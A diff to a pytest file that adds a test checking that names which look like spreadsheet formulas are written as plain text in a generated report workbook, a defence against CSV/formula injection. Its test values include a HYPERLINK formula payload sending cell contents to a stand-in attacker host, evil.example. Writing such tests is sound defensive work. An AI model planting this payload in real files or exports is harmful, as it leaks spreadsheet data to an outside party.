@@ -213,3 +213,26 @@ def test_numbers_and_months_are_written_as_the_reader_writes_them_and_the_chart_
         assert "Thời gian trung vị nhận xử lý: 0,5 giờ; xử lý xong: –" in summary_text(quiet)
     with use_locale("en"):
         assert "Median time to claim: 0.5 h" in summary_text(quiet)
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?"&A2,"Bấm vào đây")', "+84 912 345 678",
+                                  "-2+3", "@SUM(1+1)", "\tBế Văn Bảy", "=1+1"])
+async def test_a_name_that_looks_like_a_formula_stays_text_in_the_workbook(services, clock, name):
+    """OWASP's CSV/formula injection: whatever a person can type (a name at /enrol or in an import)
+    is written as text, never as a formula the reader's spreadsheet would run."""
+    from bot.reports import workbook
+    from bot.storage.records import Records
+
+    at(clock, date(2026, 2, 1))
+    world = await make_world(services)
+    person = await world.enrol("Bế Văn Bảy")
+    async with services.db.transaction() as tx:  # the name as an import could store it
+        await tx.execute("UPDATE people SET full_name = ? WHERE id = ?", (name, person))
+        assert (await Records.get(tx, person)).full_name == name
+    police = await world.actor("police1")
+
+    book = load_workbook(io.BytesIO(workbook.build(await services.reports.for_actor(police, START, END))))
+
+    cells = [c for s in book.worksheets for row in s.iter_rows() for c in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    assert name in [c.value for c in cells]
